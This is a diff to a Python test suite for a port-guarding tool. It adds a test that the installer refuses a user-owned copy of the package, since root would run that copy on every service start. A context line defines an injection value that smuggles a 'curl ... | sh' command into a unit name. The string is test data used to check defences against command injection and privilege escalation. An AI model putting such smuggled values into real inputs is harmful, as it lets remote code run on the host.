@@ -15,7 +15,7 @@ import time
 from pathlib import Path
 
 from support.cases import Case, config
-from support.sandbox import LISTENER
+from support.sandbox import LISTENER, REPO
 
 INJECTION = "machine-a;curl -s x|sh;#.scope"
 NOBODY = 65534
@@ -162,3 +162,27 @@ def test_a_fifo_or_a_link_to_dev_zero_in_a_users_store_cannot_stall_who(case: Ca
     [holder] = json.loads(done.stdout)["ports"][0]["holders"]
     assert (holder["container"]["name"], holder["container"]["user"]) == ("chat", "irc")
     assert "runuser -u irc -- podman stop chat" in sb.portguard("who", str(port)).stdout
+
+
+def test_install_refuses_a_portguard_that_others_can_change_and_changes_nothing(
+        case: Case) -> None:
+    """install's ExecStartPre=+ runs as root on every start: run from a copy of the
+    package a user owns, it would hand that user root."""
+    sb = case.sb
+    unit = case.unit(f"inst-{case.uid}.service", "--port", str(case.port()), guarded=False)
+    sb.systemctl("daemon-reload", check=True)
+    copy = f"/tmp/eve-{case.uid}"
+    sb.run(["sh", "-c", f"mkdir -p {copy} && cp -r {REPO}/portguard {copy}/ && "
+            f"chown -R {NOBODY} {copy}"], check=True)
+    done = sb.portguard("install", unit, env={"PYTHONPATH": copy})
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert "refusing to install" in done.stderr and f"{copy}/portguard" in done.stderr
+    assert "owned by uid 65534, not root" in done.stderr and "nothing was changed" in \
+        done.stderr
+    dropin = f"/etc/systemd/system/{unit}.d/portguard.conf"
+    assert sb.run(["test", "-e", dropin]).returncode == 1
+    assert sb.unit_property(unit, "ExecStartPre") == ""
+    # root's own copy installs
+    assert sb.portguard("install", unit).returncode == 0
+    assert "preflight" in sb.unit_property(unit, "ExecStartPre")
+    assert sb.portguard("uninstall", unit).returncode == 0
